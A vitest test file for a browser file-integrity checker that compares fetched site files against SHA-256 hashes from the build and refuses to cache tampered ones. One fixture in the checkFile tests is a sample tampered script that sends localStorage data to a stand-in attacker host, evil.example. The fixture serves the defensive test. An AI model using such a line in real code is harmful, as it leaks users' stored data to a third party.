import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { answerWith, checkFile, createCheckedFileMemory, digestBytes, findExpectedHash, findSiteFile } from './file-integrity.ts';

const sha256 = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');
const baseUrl = new URL('https://example.org/explorer/');

describe('digestBytes', () => {
  it('is the SHA-256 the build writes (node:crypto, hex)', async () => {
    const bytes = new TextEncoder().encode('<!doctype html><title>MCP Lifecycle Explorer</title>');
    expect(await digestBytes(bytes.buffer)).toBe(sha256(bytes));
  });
});

describe('findSiteFile', () => {
  it.each([
    ['https://example.org/explorer/', 'index.html'],
    ['https://example.org/explorer/?scenario=two-rounds', 'index.html'],
    ['https://example.org/explorer/index.html', 'index.html'],
    ['https://example.org/explorer/assets/index-abc.js', 'assets/index-abc.js'],
    ['https://example.org/explorer/oauth-callback.html?code=1', 'oauth-callback.html'],
  ])('names %s as %s', (url, file) => {
    expect(findSiteFile(url, baseUrl)).toBe(file);
  });

  it.each(['https://example.org/other/index.html', 'https://evil.example/explorer/index.html', 'https://example.org/explorer/%E0%A4%A'])(
    'names nothing for %s',
    (url) => {
      expect(findSiteFile(url, baseUrl)).toBeNull();
    },
  );
});

describe('findExpectedHash', () => {
  it('reads own entries only', () => {
    const hashes = { 'index.html': 'abc' };
    expect(findExpectedHash(hashes, 'index.html')).toBe('abc');
    expect(findExpectedHash(hashes, 'constructor')).toBeUndefined();
    expect(findExpectedHash(hashes, '__proto__')).toBeUndefined();
    expect(findExpectedHash(hashes, null)).toBeUndefined();
  });
});

describe('checkFile', () => {
  const built = 'console.log("the app")';

  it('answers the bytes it checked, with the status and headers, when they are the build’s', async () => {
    const checked = await checkFile(new Response(built, { status: 200, headers: { 'content-type': 'text/javascript' } }), sha256(built));
    expect(checked.ok).toBe(true);
    const answer = answerWith(checked);
    expect(answer.headers.get('content-type')).toBe('text/javascript');
    expect(await answer.text()).toBe(built);
  });

  it('says the bytes are not the build’s, and which hash they have', async () => {
    const changed = 'fetch("https://evil.example/?" + localStorage.key)';
    const checked = await checkFile(new Response(changed), sha256(built));
    expect(checked.ok).toBe(false);
    expect(checked.actual).toBe(sha256(changed));
  });
});

describe('createCheckedFileMemory', () => {
  const built = 'console.log("the app")';

  it('answers a kept file again and again, each time with a body of its own', async () => {
    const memory = createCheckedFileMemory();
    memory.keep('assets/index.js', await checkFile(new Response(built, { headers: { 'content-type': 'text/javascript' } }), sha256(built)));
    const first = memory.recall('assets/index.js');
    const second = memory.recall('assets/index.js');
    expect(await first?.text()).toBe(built);
    expect(await second?.text()).toBe(built);
    expect(second?.headers.get('content-type')).toBe('text/javascript');
    expect(memory.recall('index.html')).toBeUndefined();
  });

  it('keeps nothing whose bytes are not the build’s', async () => {
    const memory = createCheckedFileMemory();
    memory.keep('assets/index.js', await checkFile(new Response('changed'), sha256(built)));
    expect(memory.recall('assets/index.js')).toBeUndefined();
  });
});
